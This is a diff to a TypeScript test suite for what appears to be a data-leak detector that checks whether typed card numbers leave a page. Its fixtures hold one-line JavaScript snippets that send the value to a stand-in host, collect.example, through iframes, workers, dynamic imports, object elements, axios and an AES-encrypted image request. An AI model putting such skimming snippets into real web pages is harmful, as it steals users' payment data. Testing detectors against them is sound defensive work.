@@ -30,6 +30,9 @@ const sinks: Record<string, string> = {
   'post-message':
     "var f = document.createElement('iframe'); f.src = 'https://collect.example/'; document.body.appendChild(f); f.contentWindow.postMessage(n, '*')",
   worker: "new Worker('https://collect.example/w.js?n=' + n)",
+  'script, as a dynamic import': "import('//collect.example/m.js?n=' + n)",
+  'script, as a dynamic import of a module':
+    "import('https://collect.example/m.js?n=' + n);export const version = 1",
   object:
     "var o = document.createElement('object'); o.data = 'https://collect.example/o?n=' + n; document.body.appendChild(o)",
   library: "axios.post('https://collect.example/a', { n: n })",
@@ -46,6 +49,14 @@ describe('emulator: ways out', () => {
       assert.equal(flow.proof, 'canary');
     });
   }
+
+  it('sees that what a cipher of a library makes depends on what was typed', async () => {
+    const [flow] = await flowsOf(
+      `var n = ${card}; new Image().src = '//collect.example/i?' + CryptoJS.AES.encrypt(n, 'k').toString()`,
+    );
+    assert.equal(flow?.field, 'card-number');
+    assert.equal(flow.proof, 'dependence');
+  });
 
   it('takes an element that is only appended for no leak', async () => {
     const flows = await flowsOf(
